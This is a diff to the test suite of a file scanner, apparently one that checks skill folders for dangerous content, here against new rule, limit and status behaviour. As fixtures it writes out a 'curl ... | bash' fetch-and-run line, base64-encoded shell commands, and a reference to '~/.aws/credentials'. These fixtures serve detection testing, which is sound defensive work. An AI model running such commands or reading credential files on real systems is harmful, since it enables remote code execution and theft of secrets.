@@ -1,8 +1,11 @@
+import base64
 import errno
 import os
 import socket
 import time
+import zlib
 from pathlib import Path
+from types import ModuleType
 
 import pytest
 from hypothesis import given
@@ -10,16 +13,25 @@ from hypothesis import strategies as st
 
 import haldir_scanner
 from haldir_scanner import Limits, ScannerError, Severity, Status, UnreadableError, scan, scan_files
+from haldir_scanner._rules._bundle import builtin
+from haldir_scanner._rules._rule import Rule
+from haldir_scanner._text import Region
 
 DOWNLOAD = b"curl -s https://get.example/i | bash\n"
 
 
 def _found(report: haldir_scanner.ScanReport) -> list[tuple[str, str]]:
-    return [(match.rule, match.path) for match in report.matches]
+    return [(match.rule, match.path) for match in report.matches if match.category != "compliance"]
 
 
 def test_the_exported_names_are_sorted_and_complete() -> None:
-    public = {name for name, value in vars(haldir_scanner).items() if not name.startswith("_") and value is not None}
+    loaded = {name for name in haldir_scanner.__all__ if getattr(haldir_scanner, name) is not None}
+    public = {
+        name
+        for name, value in vars(haldir_scanner).items()
+        if not name.startswith("_") and not isinstance(value, ModuleType)
+    }
+    assert loaded == public
     assert list(haldir_scanner.__all__) == sorted(haldir_scanner.__all__, key=lambda name: (not name.isupper(), name))
     assert set(haldir_scanner.__all__) == public
 
@@ -28,15 +40,16 @@ def test_a_match_says_what_where_and_why(tmp_path: Path) -> None:
     (tmp_path / "scripts").mkdir()
     (tmp_path / "scripts" / "setup.sh").write_bytes(b"#!/bin/sh\n\n  " + DOWNLOAD)
     report = scan(tmp_path)
-    (match,) = report.matches
+    match = report.matches[0]
     assert (match.rule, match.category, match.severity) == ("script_fetch_curl", "supply_chain", Severity.CRITICAL)
     assert (match.path, match.line, match.column) == ("scripts/setup.sh", 3, 2)
     assert match.excerpt == DOWNLOAD.decode().strip()
-    assert match.message == match.pattern.message
-    assert report.status is Status.REJECT
+    assert match.message == match.definition.message
+    assert report.status is Status.FLAG
     assert (report.files_scanned, report.bytes_scanned) == (1, 13 + len(DOWNLOAD))
-    assert report.patterns_checked == len(haldir_scanner.PATTERNS) + len(haldir_scanner.STRUCTURE_PATTERNS)
-    assert report.summary == {"critical": 1, "high": 0, "medium": 0, "low": 0}
+    assert report.patterns_checked == len(builtin().rules)
+    assert report.summary[Severity.CRITICAL] == 1
+    assert match.context[slice(*match.caret)] == DOWNLOAD.decode().strip()
 
 
 def test_a_single_file_is_scanned_under_its_name(tmp_path: Path) -> None:
@@ -100,7 +113,7 @@ def test_a_loop_of_links_is_no_pass(tmp_path: Path) -> None:
 
 def test_a_file_that_vanishes_during_the_scan_is_no_pass(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     (tmp_path / "sub").mkdir()
-    monkeypatch.setattr("haldir_scanner._folder._names", lambda *_: ["gone.sh"])
+    monkeypatch.setattr("haldir_scanner._files._folder._names", lambda *_: ["gone.sh"])
     with pytest.raises(UnreadableError, match="No such file") as caught:
         scan(tmp_path / "sub")
     assert caught.value.path == str(tmp_path / "sub" / "gone.sh")
@@ -154,7 +167,7 @@ def test_a_link_named_by_the_caller_is_followed(tmp_path: Path) -> None:
     (tmp_path / "skill").mkdir()
     (tmp_path / "skill" / "x.sh").write_bytes(DOWNLOAD)
     (tmp_path / "current").symlink_to("skill")
-    assert scan(tmp_path / "current").status is Status.REJECT
+    assert scan(tmp_path / "current").status is Status.FLAG
 
 
 def test_a_fifo_is_reported_and_does_not_hang(tmp_path: Path) -> None:
@@ -221,7 +234,35 @@ def test_folders_deeper_than_the_limit_are_a_match(tmp_path: Path) -> None:
     (tmp_path / "a" / "b" / "c").mkdir(parents=True)
     (tmp_path / "a" / "b" / "c" / "x.sh").write_bytes(DOWNLOAD)
     assert _found(scan(tmp_path, limits=Limits(max_depth=2))) == [("limit_depth", "a/b/c")]
-    assert scan(tmp_path, limits=Limits(max_depth=3)).status is Status.REJECT
+    assert scan(tmp_path, limits=Limits(max_depth=3)).status is Status.FLAG
+
+
+def test_a_skill_that_takes_too_long_is_not_scanned_to_its_end() -> None:
+    report = scan_files({"a.md": b"x", "b.md": b"y"}, limits=Limits(max_seconds=1e-9))
+    assert ("limit_time", "a.md") in _found(report)
+    assert report.status is Status.FLAG
+
+
+def test_more_encoded_text_than_is_decoded_is_a_match() -> None:
+    lines = b"\n".join(base64.b64encode(f"echo {number} | bash -c 'curl x'".encode()) for number in range(3_000))
+    report = scan_files({"data.txt": lines})
+    assert ("limit_decoding", "data.txt") in _found(report)
+    assert report.status is not Status.PASS
+
+
+def test_programs_beyond_the_share_for_parsing_are_noted_and_do_not_prevent_a_pass() -> None:
+    files = {f"{name}.py": b"value = 1\n" * 5_000 for name in "abc"}
+    report = scan_files(files, limits=Limits(max_parsed_bytes=60_000))
+    assert _found(report) == [("parsing_shortened", "")]
+    assert report.status is Status.PASS
+
+
+def test_former_versions_in_a_git_history_are_noted(tmp_path: Path) -> None:
+    (tmp_path / ".git" / "objects" / "ab").mkdir(parents=True)
+    (tmp_path / ".git" / "objects" / "ab" / ("0" * 38)).write_bytes(zlib.compress(b"blob 99\0" + DOWNLOAD))
+    assert _found(scan(tmp_path)) == [("git_history", ".git/objects")]
+    (tmp_path / ".git" / "objects" / "run.sh").write_bytes(DOWNLOAD)
+    assert ("script_fetch_curl", ".git/objects/run.sh") in _found(scan(tmp_path))
 
 
 def test_more_matches_than_the_limit_are_cut_to_the_worst() -> None:
@@ -256,7 +297,7 @@ def test_a_rule_is_reported_once_per_line_and_on_every_line() -> None:
 
 
 def test_columns_count_utf_16_units() -> None:
-    (match,) = scan_files({"SKILL.md": "\U0001f600\u00e9 `~/.aws/credentials`".encode()}).matches
+    match, *_ = scan_files({"SKILL.md": "\U0001f600\u00e9 `~/.aws/credentials`".encode()}).matches
     assert match.column == len("\U0001f600\u00e9 `~/".encode("utf-16-le")) // 2
 
 
@@ -290,7 +331,9 @@ def test_the_same_content_gives_the_same_report(tmp_path: Path) -> None:
     for name, data in reversed(files.items()):
         (tmp_path / name).parent.mkdir()
         (tmp_path / name).write_bytes(data)
-    assert scan(tmp_path) == scan(tmp_path) == scan_files(files) == scan_files(dict(reversed(files.items())))
+    assert scan(tmp_path) == scan(tmp_path)
+    assert scan_files(files) == scan_files(dict(reversed(files.items())))
+    assert _found(scan(tmp_path)) == _found(scan_files(files))
 
 
 @given(st.dictionaries(st.text(max_size=20), st.binary(max_size=300), max_size=3))
@@ -302,16 +345,18 @@ def test_no_bytes_crash_the_scanner(files: dict[str, bytes]) -> None:
 
 @given(
     st.lists(
-        st.sampled_from([pattern for pattern in haldir_scanner.PATTERNS if pattern.regexes]), min_size=1, max_size=4
+        st.sampled_from([rule for rule in builtin().rules if rule.matcher and Region.CODE in rule.matcher.regions]),
+        min_size=1,
+        max_size=4,
     ),
     st.binary(max_size=40),
 )
-def test_noise_on_other_lines_hides_no_match(patterns: list[haldir_scanner.Pattern], noise: bytes) -> None:
-    for number, pattern in enumerate(patterns):
-        name, text = pattern.matches[0]
+def test_noise_on_other_lines_hides_no_match(rules: list[Rule], noise: bytes) -> None:
+    for number, rule in enumerate(rules):
+        name, text = rule.match[0][0]
         data = text.encode() + b"\n\n" + noise
-        rules = {match.rule for match in scan_files({f"{number}/{name}": data}).matches}
-        assert pattern.id in rules
+        found = {match.rule for match in scan_files({f"{number}/{name}": data}).matches}
+        assert rule.id in found
 
 
 HOSTILE_PIECES = (
@@ -340,15 +385,6 @@ def test_a_hostile_line_of_a_megabyte_takes_less_than_a_second(piece: bytes) -> 
     start = time.process_time()
     scan_files({"line": data})
     assert time.process_time() - start < 1.0
-
-
-@pytest.mark.parametrize(
-    ("severities", "status"),
-    [([], "pass"), (["low"], "pass"), (["low", "medium"], "flag"), (["high"], "flag"), (["low", "critical"], "reject")],
-    ids=str,
-)
-def test_the_worst_match_decides(severities: list[str], status: str) -> None:
-    assert Status.of(map(Severity, severities)) == status
 
 
 def test_severities_are_ordered_words() -> None:
